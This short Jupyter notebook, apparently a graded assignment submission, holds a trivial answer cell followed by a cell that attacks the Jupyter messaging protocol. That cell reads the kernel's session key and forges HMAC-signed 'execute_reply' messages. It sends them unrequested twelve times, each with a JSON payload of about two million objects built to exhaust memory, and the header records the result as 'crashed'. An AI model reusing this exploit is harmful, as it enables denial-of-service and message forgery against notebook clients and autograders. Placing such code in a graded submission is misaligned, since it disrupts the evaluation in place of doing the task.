# %% [markdown]
# ---
# what: "Answers requests that were never made, with JSON that takes gigabytes once it is read"
# status: crashed
# marks: 2
# ---

# %%
answer = 42

# %%
grader.check("q1")

# %%
import hashlib
import hmac

from ipykernel.kernelapp import IPKernelApp

app = IPKernelApp.instance()
session, shell = app.kernel.session, app.shell_socket
peer = app.kernel.get_parent("shell")["header"]["session"].encode()
parts = session.serialize(session.msg("execute_reply", {}), ident=[peer])
start = parts.index(b"<IDS|MSG>")
body = [*parts[start + 2 : start + 5], b'{"a":[' + b'{"":0},' * (1 << 21) + b"0]}"]
signature = hmac.new(session.key, digestmod=hashlib.sha256)
for part in body:
    signature.update(part)
for _ in range(12):
    shell.send_multipart([*parts[: start + 1], signature.hexdigest().encode(), *body])
